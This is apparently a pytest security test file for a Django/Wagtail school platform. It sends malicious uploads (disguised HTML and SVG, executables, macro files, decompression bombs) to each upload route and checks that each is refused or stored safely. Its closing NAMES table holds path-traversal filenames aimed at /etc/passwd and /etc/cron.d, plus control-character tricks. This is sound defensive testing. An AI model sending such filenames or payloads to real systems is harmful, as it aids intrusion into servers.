"""Upload attacks against every route that takes a file, through the real HTTP endpoints.

The matrix is :data:`SURFACES` × the attacks of each surface's family (:data:`ATTACKS`). A surface is one route
that accepts a file (one way of a route, for the verification page's two forms), with the role that may upload
there, the form data a valid upload needs, and where an accepted file is stored. The families:

- ``validator``: portfolio artefacts (create, edit) and competition submissions, checked by
  ``courses.uploads.validate_upload`` and stored privately under a random name;
- ``import``: the roster, assessment-result and competition-result imports (CSV/XLSX, ``courses.imports``);
- ``verify``: the public transcript verification page, by PDF and by credential file (read, never stored);
- ``image`` and ``document``: Wagtail's image and document libraries (the project limits them with
  ``WAGTAILIMAGES_*`` and ``WAGTAILDOCS_*``), through every view that creates or replaces a file there
  (Django's admin does not offer them: lms/admin.py unregisters them);
- ``avatar``: the profile picture every admin user (teacher, mentor, judge) may upload in Wagtail's account page.

Each cell sends the attack's file as a browser would (a multipart body written by hand, so the file name and
the part's Content-Type arrive exactly as sent) and asserts the exact outcome: refused with its message in the
answer, the status the view gives, and no new row or file (MEDIA_ROOT and the private storage are fresh folders
for every test); or accepted, with exactly one new file under a random or safe name. Limits are lowered for the
test (1 MiB for uploads, imports and verification, 2 KiB for Wagtail's libraries, 50 rows per import), so "just
over" and "exactly at" the limit stay cheap.

How a new upload route is caught:

- every project route (the authorisation matrix's ``ROUTES``, which must itself list every route) is POSTed
  with that matrix's data by someone allowed to, recording every Django form built while it answers; a route
  that builds a form with a ``FileField`` must be a surface, and a surface must build one;
- every page of those routes, and every Wagtail and Django admin page that needs no URL argument (opened by the
  site administrator), is searched for ``multipart/form-data`` forms with a file input: the route each posts to
  must be a surface or be listed in :data:`LEFT_OUT` with the reason;
- every form class in the project's packages with a ``FileField``, and every model ``FileField``, must belong
  to a surface (or, for a model field, be filled by the server only).

Expectations are written to the correct behaviour, not to what the code does today: a failing cell names a
defect in the view, form or service it goes through.
"""

import csv
import importlib
import io
import json
import pkgutil
import re
from collections.abc import Callable
from dataclasses import dataclass
from operator import attrgetter
from urllib.parse import urlparse

import pytest
from django import forms
from django.apps import apps
from django.contrib.auth import get_user_model
from django.core.files.base import ContentFile
from django.core.files.images import ImageFile
from django.db import models
from django.test import Client
from django.urls import Resolver404, resolve, reverse
from wagtail.documents.models import Document
from wagtail.images.models import Image

from competitions.admin_views import CompetitionResultImportForm
from competitions.forms import SubmissionForm
from competitions.models import Submission
from courses.forms import ImportUploadForm, ResultImportForm, RosterImportForm
from courses.forms_wagtail import ProfilePictureForm
from portfolios.forms import ArtefactForm
from portfolios.models import ArtefactVersion
from portfolios.transcripts.forms import VerifyCredentialForm, VerifyPdfForm
from tests.security.test_authorisation_matrix import ROUTES as MATRIX
from tests.security.test_authorisation_matrix import post_cells
from tests.security.upload_world import (
    Upload,
    client_for,
    extend_world,
    is_safe_stored_name,
    new_files,
    page_text,
    post_multipart,
    private_storage_in,
    row_counts,
    says,
    soup,
    stored_files,
)
from tests.security.world import PROJECT_PACKAGES, World, all_routes
from tests.upload_payloads import (
    HTML_PAGE,
    PDF,
    SVG_WITH_SCRIPT,
    WINDOWS_EXE,
    Formula,
    macro_document,
    padded,
    png_bytes,
    png_claiming_size,
    xlsx_bytes,
)

pytestmark = pytest.mark.django_db

MIB = 1024 * 1024
LIBRARY_LIMIT = 2048  # WAGTAILIMAGES_MAX_UPLOAD_SIZE and WAGTAILDOCS_MAX_UPLOAD_SIZE in these tests
MAX_ROWS = 50

PDF_TYPE = "application/pdf"
PNG_TYPE = "image/png"
DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture(scope="module")
def w(world, django_db_blocker) -> World:
    """The security world plus a site administrator and an assessment (see upload_world.py); rolled back with it."""
    with django_db_blocker.unblock():
        return extend_world(world)


@pytest.fixture(autouse=True)
def _folders(settings, tmp_path):
    """A fresh MEDIA_ROOT and private storage for every test, so "nothing stored" means an empty difference."""
    settings.MEDIA_ROOT = tmp_path / "media"
    with private_storage_in(tmp_path / "private"):
        yield


@pytest.fixture(autouse=True)
def _limits(settings):
    settings.KESAI_UPLOAD_MAX_BYTES = MIB
    settings.KESAI_IMPORT_MAX_BYTES = MIB
    settings.KESAI_IMPORT_MAX_ROWS = MAX_ROWS
    settings.KESAI_VERIFY_MAX_BYTES = MIB
    settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE = LIBRARY_LIMIT
    settings.WAGTAILDOCS_MAX_UPLOAD_SIZE = LIBRARY_LIMIT


# --- The surfaces ------------------------------------------------------------------------------------------------

REDIRECT = "redirect"  # accepted: 302 to the next page; refused: the form again (200) with the message
PREVIEW = "preview"  # imports: both 200; accepted when the preview offers "Confirm and import"
VERDICT = "verdict"  # verification: both 200; accepted when the page shows a verdict
MULTIPLE = "multiple"  # Wagtail's multiple upload: JSON {"success": ...}
CHOOSER = "chooser"  # Wagtail's chooser modal: JSON {"step": "chosen"} or the creation form again


@dataclass(frozen=True)
class Stored:
    """Where an accepted file lands: a storage root ("media" or "private"; "" for either) and its path's pattern."""

    root: str
    pattern: str
    random: bool  # the name is random (the project's rule) or only made safe (Wagtail's and Django's rule)


@dataclass(frozen=True)
class Surface:
    route: str
    family: str
    role: str
    field: str
    answer: str
    url: Callable[[World], str]
    data: Callable[[World, Client], dict] = lambda w, client: {}
    stored: Stored | None = None  # None: nothing is ever stored
    form_classes: tuple[type[forms.BaseForm], ...] = ()  # the project's form classes with the FileField
    prepare: Callable[[World], None] = lambda w: None  # makes what the URL needs, inside the test's transaction
    rows: Callable[[World], list[list]] = lambda w: []  # imports: a valid table
    newest: Callable[[], tuple[str, str]] | None = None  # validator: (stored name, name shown) of the last upload


def page(name: str, *args: str) -> Callable[[World], str]:
    def build(w: World) -> str:
        return reverse(name, args=[attrgetter(arg)(w) for arg in args])

    return build


ARTEFACT_FORM = {"title": "Listing evidence", "done_on": "2026-05-01", "body": "<p>Notes</p>", "visibility": "private"}
UUID = r"[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}"
RANDOM_ARTEFACT = Stored("private", r"portfolios/\d{4}/\d{2}/[0-9a-f]{32}\.(pdf|png|docx)", random=True)
RANDOM_SUBMISSION = Stored("private", r"submissions/\d{4}/\d{2}/[0-9a-f]{32}\.(pdf|png|docx)", random=True)
RANDOM_IMPORT = Stored("", rf"imports/{UUID}\.(csv|xlsx)", random=True)
SAFE_IMAGE = Stored("media", r"original_images/[^/]+\.png", random=False)
SAFE_DOCUMENT = Stored("media", r"documents/[^/]+\.(pdf|docx)", random=False)
SAFE_AVATAR = Stored("media", rf"avatar_images/avatar_{UUID}_[^/]+\.png", random=False)


def _newest_version() -> tuple[str, str]:
    version = ArtefactVersion.objects.latest("pk")
    return version.file.name, version.original_filename


def _newest_submission() -> tuple[str, str]:
    submission = Submission.objects.latest("pk")
    return submission.file.name, submission.original_filename


def _existing_image(w: World) -> None:
    w.image = Image.objects.create(title="Campus", file=ImageFile(io.BytesIO(png_bytes()), name="existing-campus.png"))


def _existing_document(w: World) -> None:
    w.document = Document.objects.create(title="Handbook", file=ContentFile(PDF, name="existing-handbook.pdf"))


_ACCOUNT_FIELDS: dict[int, dict] = {}


def account_fields(w: World, client: Client) -> dict:
    """The account page's own values for every field but the avatar and the passwords: a save that changes only
    the picture. Read once per user (the page is large)."""
    user = w.users["teacher"]
    if user.pk not in _ACCOUNT_FIELDS:
        _ACCOUNT_FIELDS[user.pk] = _fields_of(soup(client.get(reverse("wagtailadmin_account"))))
    return dict(_ACCOUNT_FIELDS[user.pk])


def _fields_of(page) -> dict:
    fields = {}
    for element in page.select("form input, form select"):
        name, kind = element.get("name"), element.get("type")
        if not name or name == "csrfmiddlewaretoken" or kind in ("file", "password"):
            continue
        if element.name == "select":
            chosen = element.select_one("option[selected]")
            fields[name] = chosen.get("value", "") if chosen else ""
        elif kind in ("checkbox", "radio"):
            if element.has_attr("checked") and name != "avatar-avatar-clear":
                fields[name] = element.get("value", "on")
        else:
            fields[name] = element.get("value", "")
    return fields


ROSTER = lambda w: [["student_number", "family_name", "given_name"], ["2024999901", "陈", "小明"]]  # noqa: E731
RESULTS = lambda w: [["student_number", "assessment", "score"], [w.student_number, "Listing quiz", "80"]]  # noqa: E731
CONTEST = lambda w: [["student_number", "task", "score"], [w.student_number, "Product listing", "80"]]  # noqa: E731

SURFACES: dict[str, Surface] = {
    # --- the project's one validator ---------------------------------------------------------------------------
    "artefact create": Surface(
        "portfolios:create_artefact",
        "validator",
        "owner",
        "file",
        REDIRECT,
        url=lambda w: reverse("portfolios:create_artefact", args=["reflection"]),
        data=lambda w, client: ARTEFACT_FORM,
        stored=RANDOM_ARTEFACT,
        form_classes=(ArtefactForm,),
        newest=_newest_version,
    ),
    "artefact edit": Surface(
        "portfolios:edit_artefact",
        "validator",
        "owner",
        "file",
        REDIRECT,
        url=page("portfolios:edit_artefact", "draft.pk"),
        data=lambda w, client: ARTEFACT_FORM,
        stored=RANDOM_ARTEFACT,
        form_classes=(ArtefactForm,),
        newest=_newest_version,
    ),
    "submission": Surface(
        "participation:submit",
        "validator",
        "owner",
        "file",
        REDIRECT,
        url=page("participation:submit", "team.pk", "task.pk"),
        data=lambda w, client: {"body": "<p>Version 2</p>", "link": ""},
        stored=RANDOM_SUBMISSION,
        form_classes=(SubmissionForm,),
        newest=_newest_submission,
    ),
    # --- imports -----------------------------------------------------------------------------------------------
    "roster import": Surface(
        "courses_import_roster",
        "import",
        "teacher",
        "file",
        PREVIEW,
        url=page("courses_import_roster"),
        data=lambda w, client: {"cohort": w.cohort.pk, "enrolled_on": "2026-09-01"},
        stored=RANDOM_IMPORT,
        form_classes=(RosterImportForm, ImportUploadForm),
        rows=ROSTER,
    ),
    "result import": Surface(
        "courses_import_results",
        "import",
        "teacher",
        "file",
        PREVIEW,
        url=page("courses_import_results"),
        data=lambda w, client: {"cohort": w.cohort.pk, "course": w.course.pk},
        stored=RANDOM_IMPORT,
        form_classes=(ResultImportForm, ImportUploadForm),
        rows=RESULTS,
    ),
    "competition result import": Surface(
        "competitions_admin_import",
        "import",
        "teacher",
        "file",
        PREVIEW,
        url=page("competitions_admin_import"),
        data=lambda w, client: {"competition": w.competition.pk},
        stored=RANDOM_IMPORT,
        form_classes=(CompetitionResultImportForm,),
        rows=CONTEST,
    ),
    # --- public verification (anyone; nothing is kept) ----------------------------------------------------------
    "verify by PDF": Surface(
        "transcripts:verify",
        "verify",
        "anonymous",
        "pdf",
        VERDICT,
        url=page("transcripts:verify"),
        data=lambda w, client: {"way": "pdf"},
        form_classes=(VerifyPdfForm,),
    ),
    "verify by credential file": Surface(
        "transcripts:verify",
        "verify",
        "anonymous",
        "credential_file",
        VERDICT,
        url=page("transcripts:verify"),
        data=lambda w, client: {"way": "credential", "credential_text": ""},
        form_classes=(VerifyCredentialForm,),
    ),
    # --- Wagtail's image library (site administrators) ----------------------------------------------------------
    "image add": Surface(
        "wagtailimages:add",
        "image",
        "admin",
        "file",
        REDIRECT,
        url=page("wagtailimages:add"),
        data=lambda w, client: {"title": "Campus"},
        stored=SAFE_IMAGE,
    ),
    "image multiple upload": Surface(
        "wagtailimages:add_multiple",
        "image",
        "admin",
        "files[]",
        MULTIPLE,
        url=page("wagtailimages:add_multiple"),
        stored=SAFE_IMAGE,
    ),
    "image chooser upload": Surface(
        "wagtailimages_chooser:create",
        "image",
        "admin",
        "image-chooser-upload-file",
        CHOOSER,
        url=page("wagtailimages_chooser:create"),
        data=lambda w, client: {"image-chooser-upload-title": "Campus"},
        stored=SAFE_IMAGE,
    ),
    "image replace": Surface(
        "wagtailimages:edit",
        "image",
        "admin",
        "file",
        REDIRECT,
        url=page("wagtailimages:edit", "image.pk"),
        data=lambda w, client: {"title": "Campus"},
        stored=SAFE_IMAGE,
        prepare=_existing_image,
    ),
    # --- Wagtail's document library (site administrators) -------------------------------------------------------
    "document add": Surface(
        "wagtaildocs:add",
        "document",
        "admin",
        "file",
        REDIRECT,
        url=page("wagtaildocs:add"),
        data=lambda w, client: {"title": "Handbook"},
        stored=SAFE_DOCUMENT,
    ),
    "document multiple upload": Surface(
        "wagtaildocs:add_multiple",
        "document",
        "admin",
        "files[]",
        MULTIPLE,
        url=page("wagtaildocs:add_multiple"),
        stored=SAFE_DOCUMENT,
    ),
    "document chooser upload": Surface(
        "wagtaildocs_chooser:create",
        "document",
        "admin",
        "document-chooser-upload-file",
        CHOOSER,
        url=page("wagtaildocs_chooser:create"),
        data=lambda w, client: {"document-chooser-upload-title": "Handbook"},
        stored=SAFE_DOCUMENT,
    ),
    "document replace": Surface(
        "wagtaildocs:edit",
        "document",
        "admin",
        "file",
        REDIRECT,
        url=page("wagtaildocs:edit", "document.pk"),
        data=lambda w, client: {"title": "Handbook"},
        stored=SAFE_DOCUMENT,
        prepare=_existing_document,
    ),
    # --- Wagtail's account page: every admin user's profile picture ---------------------------------------------
    "avatar": Surface(
        "wagtailadmin_account",
        "avatar",
        "teacher",
        "avatar-avatar",
        REDIRECT,
        url=page("wagtailadmin_account"),
        data=account_fields,
        stored=SAFE_AVATAR,
        form_classes=(ProfilePictureForm,),
    ),
}

#: Routes outside the project that take a file but are not attacked here, with the reason.
LEFT_OUT = {
    "wagtailredirects:start_import": (
        "Wagtail's redirect import: site administrators only (no Kesai role holds a wagtailredirects permission); "
        "the file waits in the system's temporary folder and is read as a table of redirects, never served"
    ),
}

#: Every model FileField of the project, and the surface that fills it (None: only the server writes it).
MODEL_FILE_FIELDS = {
    "competitions.Submission.file": "submission",
    "portfolios.ArtefactVersion.file": "artefact create",
    "portfolios.Transcript.pdf": None,  # rendered by WeasyPrint from the snapshot; never uploaded
}


# --- The attacks ---------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Refused:
    message: str | Callable[[Surface, World], str] = ""
    status: int = 200
    mentions: str = ""  # when the right wording is the fix's to choose: a word the message must contain


@dataclass(frozen=True)
class Accepted:
    verdict: str = ""  # the verification page's verdict for the file


@dataclass(frozen=True)
class Attack:
    payload: Callable[[Surface, World], Upload]
    expected: Refused | Accepted


MARKUP = "Web pages (HTML), SVG images and XML files cannot be uploaded. Save the work as a PDF instead."
PROGRAMS = "Programs and scripts cannot be uploaded."
MACROS = "Documents with macros cannot be uploaded. Save a copy without macros (.docx, .xlsx or .pptx)."
TOO_MANY_PIXELS = "The image is too large: at most 40 million pixels are accepted."
EMPTY = "The submitted file is empty."  # Django's FileField
NOT_XLSX = "This file is not a real XLSX workbook."
NOT_TEXT = "The CSV file is neither UTF-8 nor GB18030 text."
NOT_A_TABLE = "Upload a .csv or .xlsx file."
IMPORT_TOO_LARGE = "The file is larger than 1 MB."
TOO_MANY_ROWS = f"The file has more than {MAX_ROWS} rows."
NOT_PDF = "This file is not a PDF."
VERIFY_TOO_LARGE = "The file is too large: at most 1 MB is read."
LIBRARY_TOO_LARGE = "This file is too big (2.0 KB). Maximum filesize 2.0 KB."  # 2,049 and 2,048 bytes, rounded
NOT_AN_IMAGE_FORMAT = "Not a supported image format. Supported formats: GIF, JPG, JPEG, PNG, WEBP."
SVG_NAMED_PNG = "Not a valid .png image. The extension does not match the file format (svg)"
NOT_AN_IMAGE = "Upload a valid image. The file you uploaded was either not an image or a corrupted image."
IMAGE_BOMB = "This file has too many pixels (unknown number). Maximum pixels 40000000."
IMAGE_PIXELS = "This file has too many pixels (48000000). Maximum pixels 40000000."
SVG_EXTENSION = "File extension “svg” is not allowed. Allowed extensions are: csv, docx, pdf, pptx, txt, xlsx."

#: 20,000 × 20,000 = 400 million pixels claimed by a PNG of under a kilobyte (over Pillow's own bomb limit).
BOMB = png_claiming_size(20_000, 20_000)
#: 8,000 × 6,000 = 48 million pixels: under Pillow's limits, over the site's 40 million.
WIDE = png_claiming_size(8_000, 6_000)


def upload(name: str, content: bytes, content_type: str = PDF_TYPE) -> Callable[[Surface, World], Upload]:
    return lambda surface, w: Upload(name, content, content_type)


def csv_bytes(rows: list[list], *, size: int = 0) -> bytes:
    """The table as UTF-8 CSV. With ``size``, padded to exactly that many bytes with blank "note" columns of
    spaces (stripped on import), each under the csv module's 131,072-character field limit."""
    if not size:
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\r\n").writerows(rows)
        return buffer.getvalue().encode()
    columns = size // 100_000 + 1
    widened = [[*rows[0], *["note"] * columns], *[[*row, *[""] * columns] for row in rows[1:]]]
    deficit = size - len(csv_bytes(widened))
    assert 0 <= deficit <= columns * 100_000, deficit
    last = widened[-1]
    for column in range(columns):
        last[len(rows[-1]) + column] = " " * min(100_000, max(deficit - column * 100_000, 0))
    padded_table = csv_bytes(widened)
    assert len(padded_table) == size, (len(padded_table), size)
    return padded_table


def table(name: str, *, size: int = 0, content_type: str = "text/csv") -> Callable[[Surface, World], Upload]:
    return lambda surface, w: Upload(name, csv_bytes(surface.rows(w), size=size), content_type)


def workbook(name: str, make: Callable[[list[list]], bytes]) -> Callable[[Surface, World], Upload]:
    return lambda surface, w: Upload(name, make(surface.rows(w)), XLSX_TYPE)


def missing_columns(surface: Surface, w: World) -> str:
    return f"Missing columns: {', '.join(surface.rows(w)[0])}."


def _far_row(rows: list[list]) -> bytes:
    # A header, then one value at row 100,000: openpyxl fills the 99,998 rows between with empty rows.
    return xlsx_bytes([rows[0], (100_000, rows[1])])


def _many_rows(rows: list[list]) -> bytes:
    # 2,000 rows (40 times the limit) in a workbook of a few dozen kilobytes.
    return xlsx_bytes([rows[0], *([rows[1]] * 2_000)])


def _credential(w: World) -> bytes:
    return json.dumps({"jwt": w.transcript.credential}).encode()


def _transcript_pdf(w: World) -> bytes:
    return w.transcript_pdf


ATTACKS: dict[str, dict[str, Attack]] = {
    "validator": {
        "over the limit": Attack(upload("big.pdf", padded(PDF, MIB + 1)), Refused("files can be at most 1.0 MB.")),
        "at the limit": Attack(upload("exact.pdf", padded(PDF, MIB)), Accepted()),
        "HTML named .pdf": Attack(upload("report.pdf", HTML_PAGE), Refused(MARKUP)),
        "HTML named .png": Attack(upload("photo.png", HTML_PAGE, PNG_TYPE), Refused(MARKUP)),
        "SVG with a script": Attack(upload("logo.svg", SVG_WITH_SCRIPT, "image/svg+xml"), Refused(MARKUP)),
        "SVG named .png": Attack(upload("logo.png", SVG_WITH_SCRIPT, PNG_TYPE), Refused(MARKUP)),
        "program named .docx": Attack(upload("report.docx", WINDOWS_EXE, DOCX_TYPE), Refused(PROGRAMS)),
        "program named .pdf": Attack(upload("report.pdf", WINDOWS_EXE), Refused(PROGRAMS)),
        "document with macros": Attack(upload("report.docx", macro_document(), DOCX_TYPE), Refused(MACROS)),
        "decompression bomb": Attack(upload("bomb.png", BOMB, PNG_TYPE), Refused(TOO_MANY_PIXELS)),
        "over the pixel limit": Attack(upload("wide.png", WIDE, PNG_TYPE), Refused(TOO_MANY_PIXELS)),
        "PDF sent as text/html": Attack(upload("report.pdf", PDF, "text/html"), Accepted()),
        "empty file": Attack(upload("empty.pdf", b""), Refused(EMPTY)),
    },
    "import": {
        "over the limit": Attack(table("roster.csv", size=MIB + 1), Refused(IMPORT_TOO_LARGE)),
        "at the limit": Attack(table("roster.csv", size=MIB), Accepted()),
        "HTML named .xlsx": Attack(upload("roster.xlsx", HTML_PAGE, XLSX_TYPE), Refused(NOT_XLSX)),
        "HTML named .csv": Attack(upload("roster.csv", HTML_PAGE, "text/csv"), Refused(missing_columns)),
        "SVG with a script": Attack(upload("roster.svg", SVG_WITH_SCRIPT, "image/svg+xml"), Refused(NOT_A_TABLE)),
        "program named .xlsx": Attack(upload("roster.xlsx", WINDOWS_EXE, XLSX_TYPE), Refused(NOT_XLSX)),
        "program named .csv": Attack(upload("roster.csv", WINDOWS_EXE, "text/csv"), Refused(NOT_TEXT)),
        # Macros are never run (openpyxl reads cell values only): the workbook's data is imported.
        "workbook with macros": Attack(
            workbook("roster.xlsx", lambda rows: xlsx_bytes(rows, extra={"xl/vbaProject.bin": b"\xd0\xcf macro"})),
            Accepted(),
        ),
        "rows over the limit": Attack(workbook("roster.xlsx", _many_rows), Refused(TOO_MANY_ROWS)),
        "a value far below the limit": Attack(workbook("roster.xlsx", _far_row), Refused(TOO_MANY_ROWS)),
        "CSV sent as a program": Attack(table("roster.csv", content_type="application/x-msdownload"), Accepted()),
        "empty file": Attack(upload("roster.csv", b"", "text/csv"), Refused(EMPTY)),
    },
    "verify by PDF": {
        "over the limit": Attack(upload("transcript.pdf", padded(PDF, MIB + 1)), Refused(VERIFY_TOO_LARGE)),
        # The body is larger than the limit and the multipart slack (64 KiB): refused before it is read.
        "far over the limit": Attack(
            upload("transcript.pdf", padded(PDF, MIB + 100 * 1024)), Refused(VERIFY_TOO_LARGE, status=413)
        ),
        "at the limit": Attack(upload("transcript.pdf", padded(PDF, MIB)), Accepted(verdict="Not genuine")),
        "HTML named .pdf": Attack(upload("transcript.pdf", HTML_PAGE), Refused(NOT_PDF)),
        "SVG with a script": Attack(upload("transcript.svg", SVG_WITH_SCRIPT, "image/svg+xml"), Refused(NOT_PDF)),
        "program named .pdf": Attack(upload("transcript.pdf", WINDOWS_EXE), Refused(NOT_PDF)),
        "decompression bomb": Attack(upload("transcript.png", BOMB, PNG_TYPE), Refused(NOT_PDF)),
        "genuine PDF sent as text/html": Attack(
            lambda surface, w: Upload("transcript.pdf", _transcript_pdf(w), "text/html"), Accepted(verdict="Valid")
        ),
        "empty file": Attack(upload("transcript.pdf", b""), Refused(EMPTY)),
    },
    "verify by credential file": {
        "over the limit": Attack(upload("credential.json", b"x" * (MIB + 1)), Refused(VERIFY_TOO_LARGE)),
        "far over the limit": Attack(
            upload("credential.json", b"x" * (MIB + 100 * 1024)), Refused(VERIFY_TOO_LARGE, status=413)
        ),
        "at the limit": Attack(upload("credential.json", b"x" * MIB), Accepted(verdict="Not genuine")),
        "HTML named .json": Attack(upload("credential.json", HTML_PAGE), Accepted(verdict="Not genuine")),
        "SVG with a script": Attack(upload("credential.svg", SVG_WITH_SCRIPT), Accepted(verdict="Not genuine")),
        # Bytes that are not text are not a credential either: the answer is the same as for any forgery.
        "program named .jwt": Attack(upload("credential.jwt", WINDOWS_EXE), Accepted(verdict="Not genuine")),
        "genuine credential sent as text/html": Attack(
            lambda surface, w: Upload("credential.json", _credential(w), "text/html"), Accepted(verdict="Valid")
        ),
        "empty file": Attack(upload("credential.json", b"", "application/json"), Refused(EMPTY)),
    },
    "image": {
        "over the limit": Attack(
            upload("big.png", padded(png_bytes(), LIBRARY_LIMIT + 1), PNG_TYPE), Refused(LIBRARY_TOO_LARGE)
        ),
        "at the limit": Attack(upload("exact.png", padded(png_bytes(), LIBRARY_LIMIT), PNG_TYPE), Accepted()),
        "HTML named .png": Attack(upload("photo.png", HTML_PAGE, PNG_TYPE), Refused(SVG_NAMED_PNG)),  # Willow: "svg"
        "SVG with a script": Attack(upload("logo.svg", SVG_WITH_SCRIPT, "image/svg+xml"), Refused(NOT_AN_IMAGE_FORMAT)),
        "SVG named .png": Attack(upload("logo.png", SVG_WITH_SCRIPT, PNG_TYPE), Refused(SVG_NAMED_PNG)),
        "program named .png": Attack(upload("photo.png", WINDOWS_EXE, PNG_TYPE), Refused(NOT_AN_IMAGE)),
        "decompression bomb": Attack(upload("bomb.png", BOMB, PNG_TYPE), Refused(IMAGE_BOMB)),
        "over the pixel limit": Attack(upload("wide.png", WIDE, PNG_TYPE), Refused(IMAGE_PIXELS)),
        "PNG sent as text/html": Attack(upload("photo.png", png_bytes(), "text/html"), Accepted()),
        "empty file": Attack(upload("empty.png", b"", PNG_TYPE), Refused(EMPTY)),
    },
    # Documents are served to anyone who has the link: the project's rule (DESIGN.md, "Uploads": type checked by
    # content, SVG and HTML refused) holds for them too, with the one validator's messages.
    "document": {
        "over the limit": Attack(upload("big.pdf", padded(PDF, LIBRARY_LIMIT + 1)), Refused(LIBRARY_TOO_LARGE)),
        "at the limit": Attack(upload("exact.pdf", padded(PDF, LIBRARY_LIMIT)), Accepted()),
        "HTML named .pdf": Attack(upload("handbook.pdf", HTML_PAGE), Refused(MARKUP)),
        "SVG with a script": Attack(upload("logo.svg", SVG_WITH_SCRIPT, "image/svg+xml"), Refused(SVG_EXTENSION)),
        "SVG named .pdf": Attack(upload("logo.pdf", SVG_WITH_SCRIPT), Refused(MARKUP)),
        "program named .docx": Attack(upload("handbook.docx", WINDOWS_EXE, DOCX_TYPE), Refused(PROGRAMS)),
        "program named .pdf": Attack(upload("handbook.pdf", WINDOWS_EXE), Refused(PROGRAMS)),
        "document with macros": Attack(upload("handbook.docx", macro_document(), DOCX_TYPE), Refused(MACROS)),
        "PDF sent as text/html": Attack(upload("handbook.pdf", PDF, "text/html"), Accepted()),
        "empty file": Attack(upload("empty.pdf", b""), Refused(EMPTY)),
    },
    # Wagtail's profile picture: Django's ImageField, then courses.uploads' checks, then resized to 400 px.
    "avatar": {
        "over the limit": Attack(
            upload("me.png", padded(png_bytes(), MIB + 1), PNG_TYPE), Refused("files can be at most 1.0 MB.")
        ),
        "at the limit": Attack(upload("me.png", padded(png_bytes(), MIB), PNG_TYPE), Accepted()),
        "HTML named .png": Attack(upload("me.png", HTML_PAGE, PNG_TYPE), Refused(NOT_AN_IMAGE)),
        "SVG with a script": Attack(upload("me.svg", SVG_WITH_SCRIPT, "image/svg+xml"), Refused(NOT_AN_IMAGE)),
        "SVG named .png": Attack(upload("me.png", SVG_WITH_SCRIPT, PNG_TYPE), Refused(NOT_AN_IMAGE)),
        "program named .png": Attack(upload("me.png", WINDOWS_EXE, PNG_TYPE), Refused(NOT_AN_IMAGE)),
        "decompression bomb": Attack(upload("me.png", BOMB, PNG_TYPE), Refused(NOT_AN_IMAGE)),
        # The site's pixel limit (WAGTAILIMAGES_MAX_IMAGE_PIXELS): the wording is the fix's to choose.
        "over the pixel limit": Attack(upload("me.png", WIDE, PNG_TYPE), Refused(mentions="pixels")),
        "PNG sent as text/html": Attack(upload("me.png", png_bytes(), "text/html"), Accepted()),
        "empty file": Attack(upload("me.png", b"", PNG_TYPE), Refused(EMPTY)),
    },
}


def attacks_of(surface_name: str) -> dict[str, Attack]:
    """A surface's own attacks when it has some (the verification page's two forms), else its family's."""
    return ATTACKS.get(surface_name) or ATTACKS[SURFACES[surface_name].family]


def cells() -> list:
    return [
        pytest.param(surface, attack, id=f"{surface}|{attack}")
        for surface in SURFACES
        for attack in attacks_of(surface)
    ]


# --- Sending an attack and reading the answer --------------------------------------------------------------------


def answer_json(response) -> dict:
    return json.loads(response.content)


def verdict(response) -> str:
    found = soup(response).select_one(".verification__verdict")
    return found.get_text(strip=True) if found else ""


def accepted(surface: Surface, response) -> bool:
    if response.status_code not in (200, 302):
        return False
    if surface.answer == REDIRECT:
        return response.status_code == 302
    if surface.answer == PREVIEW:
        return soup(response).select_one("input[name=token]") is not None
    if surface.answer == VERDICT:
        return verdict(response) != ""
    if surface.answer == MULTIPLE:
        return answer_json(response).get("success") is True
    return answer_json(response).get("step") == "chosen"  # CHOOSER


def answered(response) -> str:
    return f"{response.status_code} {response.get('Location', '')} {page_text(response)[-900:]}"


def send(surface: Surface, w: World, file: Upload, client: Client | None = None) -> tuple:
    """Upload ``file`` as the surface's role; returns the answer, and the rows and files from before it."""
    surface.prepare(w)
    client = client or client_for(w, surface.role)
    data = surface.data(w, client)
    rows, files = row_counts(), stored_files()
    return post_multipart(client, surface.url(w), data, {surface.field: file}), rows, files


def assert_stored_safely(surface: Surface, added: set) -> tuple[str, str]:
    if surface.stored is None:
        assert added == set(), f"nothing is kept here, yet these were stored: {added}"
        return "", ""
    assert len(added) == 1, f"expected one new file, found {added}"
    ((root, relative),) = added
    assert root.startswith(surface.stored.root), (root, relative)
    assert re.fullmatch(surface.stored.pattern, relative), relative
    assert is_safe_stored_name(relative), relative
    return root, relative


@pytest.mark.parametrize(("surface_name", "attack_name"), cells())
def test_upload_attack(w, surface_name, attack_name):
    surface = SURFACES[surface_name]
    attack = attacks_of(surface_name)[attack_name]
    response, rows, files = send(surface, w, attack.payload(surface, w))
    expected = attack.expected
    if isinstance(expected, Accepted):
        assert accepted(surface, response), answered(response)
        if expected.verdict:
            assert verdict(response) == expected.verdict, answered(response)
        assert_stored_safely(surface, new_files(files))
        return
    assert response.status_code == expected.status, answered(response)
    assert not accepted(surface, response), answered(response)
    message = expected.message(surface, w) if callable(expected.message) else expected.message
    if message:
        assert says(response, message), f"expected “{message}” in: {answered(response)}"
    if expected.mentions:
        assert expected.mentions in page_text(response), f"no “{expected.mentions}” in: {answered(response)}"
    assert row_counts() == rows
    assert stored_files() == files, f"a refused upload left files behind: {new_files(files)}"


# --- Names -----------------------------------------------------------------------------------------------------

#: Names as an attacker sends them, and as the project shows them afterwards ({ext}: the surface's extension).
#: Django's multipart parser already drops folders, unescapes HTML entities and removes non-printable
#: characters; the project's own display name then drops leading dots and cuts to 255 characters.
NAMES = {
    "parent folders": ("../../etc/passwd.{ext}", "passwd.{ext}"),
    "Windows folders": ("..\\..\\Windows\\win.{ext}", "win.{ext}"),
    "absolute path": ("/etc/cron.d/evil.{ext}", "evil.{ext}"),
    "escaped parent folders": ("&#46;&#46;/&#46;&#46;/secret.{ext}", "secret.{ext}"),
    "NUL byte": ("nul\x00byte.{ext}", "nulbyte.{ext}"),
    "control characters": ("bell\x07esc\x1b[31m.{ext}", "bellesc[31m.{ext}"),
    "right-to-left override": ("report\u202efdp.{ext}", "reportfdp.{ext}"),
    "zero-width space": ("zero\u200bwidth.{ext}", "zerowidth.{ext}"),
    "leading dot": (".hidden.{ext}", "hidden.{ext}"),
    "300 characters": ("长" * 300 + ".{ext}", "长" * 251 + ".{ext}"),
}
#: The three that stand for the rest on every other surface.
FEW_NAMES = ("parent folders", "control characters", "300 characters")


